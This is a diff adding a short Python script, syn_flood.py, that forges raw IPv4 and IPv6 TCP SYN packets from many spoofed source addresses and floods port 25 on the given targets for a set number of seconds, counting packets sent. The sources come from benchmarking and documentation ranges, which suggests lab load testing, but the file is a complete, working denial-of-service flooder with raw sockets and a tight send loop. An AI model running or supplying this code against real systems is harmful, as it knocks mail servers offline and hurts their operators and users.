@@ -1,0 +1,71 @@
+#!/usr/bin/env python3
+"""Sends SYNs to port 25 as fast as it can, from as many sources as it is told to, until its time is up.
+
+    syn_flood.py SECONDS SOURCES TARGET...
+
+SOURCES are the first so many addresses of 198.18.0.0/16, or of /64s in 2001:db8:f000::/36. A target
+is an address of either family. Prints how many packets it sent.
+"""
+import ipaddress
+import itertools
+import random
+import socket
+import struct
+import sys
+import time
+
+
+def checksum(octets):
+    if len(octets) % 2:
+        octets += b"\0"
+    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def syn(source, target, port):
+    def segment(check):
+        return struct.pack("!HHIIBBHHH", port, 25, random.getrandbits(32), 0, 0x50, 2, 65535, check, 0)
+
+    bare = segment(0)
+    pseudo = source.packed + target.packed + struct.pack("!II", len(bare), 6)
+    whole = bare[:16] + struct.pack("!H", checksum(pseudo + bare)) + bare[18:]
+    if target.version == 6:
+        return struct.pack("!IHBB", 0x60000000, len(whole), 6, 64) + source.packed + target.packed + whole
+    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(whole), 0, 0, 64, 6, 0)
+    return header + source.packed + target.packed + whole
+
+
+def source_of(number, version):
+    if version == 4:
+        return ipaddress.ip_address("198.18.0.0") + 1 + number
+    return ipaddress.ip_address("2001:db8:f000::1") + (number << 64)
+
+
+def main():
+    seconds, sources = float(sys.argv[1]), int(sys.argv[2])
+    packets = []
+    for number, target in itertools.product(range(sources), sys.argv[3:]):
+        target = ipaddress.ip_address(target)
+        packet = syn(source_of(number, target.version), target, 1024 + random.randrange(60000))
+        packets.append((packet, (str(target), 0), target.version))
+    random.shuffle(packets)
+    raw = {
+        4: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
+        6: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW),
+    }
+    sent = 0
+    end = time.monotonic() + seconds
+    for packet, address, version in itertools.cycle(packets):
+        try:
+            raw[version].sendto(packet, address)
+            sent += 1
+        except OSError:  # the link is full
+            pass
+        if sent % 256 == 0 and time.monotonic() >= end:
+            break
+    print(sent)
+
+
+main()
